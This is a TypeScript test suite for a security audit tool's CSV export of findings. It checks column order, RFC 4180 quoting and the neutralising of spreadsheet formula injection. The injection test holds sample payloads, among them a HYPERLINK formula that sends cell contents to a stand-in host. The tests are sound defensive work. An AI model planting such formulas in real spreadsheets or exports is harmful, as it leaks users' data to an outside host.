import assert from 'node:assert/strict'
import { test } from 'node:test'
import { CSV_COLUMNS, csvField, csvHeader, csvRow, type CsvResource } from './csv.ts'
import type { FindingRecord } from '../schemas.ts'

const finding: FindingRecord = {
  id: 'fnd_1',
  severity: 'high',
  dimension: 'security',
  resource_id: 'res_1',
  title: 'Bucket allows public read',
  detected_at: '2026-03-01T10:00:00.000Z',
  status: 'open',
  check_id: 'sec.bucket_public_read',
  audit_id: 'aud_1',
  description: 'Anyone can list and read objects.',
  remediation: 'Block public access.',
  first_seen_at: '2026-03-01T10:00:00.000Z',
  last_seen_at: '2026-03-02T10:00:00.000Z',
  resolved_at: null,
  policy_ids: [], status_reason: null, status_expires_at: null, accepted_until: null, assignee: null, due_at: null, sla_status: 'none', suppressed_by: null, source: null,
}
const resource: CsvResource = {
  name: 'logs', kind: 'bucket', provider: 'aws', region: 'eu-west-1', external_id: 'arn:aws:s3:::logs',
}

/** Minimal RFC 4180 reader, so assertions are about what a spreadsheet would see, not about our own string. */
function parse(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++ } else if (c === '"') quoted = false
      else field += c
    } else if (c === '"') quoted = true
    else if (c === ',') { row.push(field); field = '' }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++ }
    else field += c
  }
  assert.equal(field, '', 'input must end with CRLF')
  return rows
}
const cellsOf = (line: string): Record<string, string> => {
  const [values] = parse(line)
  assert.equal(values!.length, CSV_COLUMNS.length)
  return Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, values![i]!]))
}

test('the header is the exact column list, CRLF-terminated', () => {
  assert.equal(csvHeader(),
    'id,check_id,severity,dimension,status,title,resource_id,resource_name,resource_kind,provider,region,external_id,'
    + 'detected_at,first_seen_at,last_seen_at,resolved_at,audit_id,policy_ids,remediation,'
    + 'assignee,due_at,sla_status,accepted_until\r\n')
})

test('a plain row is unquoted, in column order, with null resolved_at empty', () => {
  assert.equal(csvRow(finding, resource),
    'fnd_1,sec.bucket_public_read,high,security,open,Bucket allows public read,res_1,logs,bucket,aws,eu-west-1,'
    + 'arn:aws:s3:::logs,2026-03-01T10:00:00.000Z,2026-03-01T10:00:00.000Z,2026-03-02T10:00:00.000Z,,aud_1,,'
    + 'Block public access.,,,none,\r\n')
})

test('without a resource the resource columns are empty and the row keeps its width', () => {
  const cells = cellsOf(csvRow(finding))
  for (const c of ['resource_name', 'resource_kind', 'provider', 'region', 'external_id']) assert.equal(cells[c], '')
  assert.equal(cells.resource_id, 'res_1')
  assert.deepEqual(cellsOf(csvRow(finding, null)), cells)
})

test('fields with commas, quotes, CR or LF are quoted and quotes are doubled (RFC 4180)', () => {
  assert.equal(csvField('a,b'), '"a,b"')
  assert.equal(csvField('say "hi"'), '"say ""hi"""')
  assert.equal(csvField('line1\nline2'), '"line1\nline2"')
  assert.equal(csvField('line1\r\nline2'), '"line1\r\nline2"')
  const title = 'Open, "wide"\r\nand more'
  const row = csvRow({ ...finding, title, remediation: 'Step 1.\nStep 2, then "3".' }, { ...resource, name: 'a,b' })
  assert.equal(parse(row).length, 1, 'embedded newlines stay inside one record')
  const cells = cellsOf(row)
  assert.equal(cells.title, title)
  assert.equal(cells.resource_name, 'a,b')
  assert.equal(cells.remediation, 'Step 1.\nStep 2, then "3".')
})

test('a field starting with = + - @ tab or CR is prefixed with an apostrophe (formula injection)', () => {
  for (const evil of ['=HYPERLINK("http://x.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1']) {
    const cells = cellsOf(csvRow({ ...finding, title: evil }, { ...resource, name: evil }))
    assert.equal(cells.title, `'${evil}`)
    assert.equal(cells.resource_name, `'${evil}`)
  }
  // Quoting happens after neutralising, so the apostrophe sits inside the quotes where the reader sees it.
  assert.equal(csvField('=a,b'), `"'=a,b"`)
  // Only the first character matters: a formula sign later in the text is harmless.
  assert.equal(csvField('a=1'), 'a=1')
  assert.equal(csvField('2026-03-01'), '2026-03-01')
})

test('policy ids are joined with semicolons; nulls and empty lists are empty fields', () => {
  const cells = cellsOf(csvRow({ ...finding, policy_ids: ['pol_a', 'pol_b'], status: 'resolved', resolved_at: '2026-03-03T00:00:00.000Z' }, resource))
  assert.equal(cells.policy_ids, 'pol_a;pol_b')
  assert.equal(cells.resolved_at, '2026-03-03T00:00:00.000Z')
  assert.equal(csvField(null), '')
  assert.equal(csvField(undefined), '')
})

test('risk-acceptance fields are accepted and do not change the columns', () => {
  const accepted = { ...finding, status: 'accepted_risk' as const, status_reason: 'Public by design', status_expires_at: null }
  assert.equal(cellsOf(csvRow(accepted, resource)).status, 'accepted_risk')
})
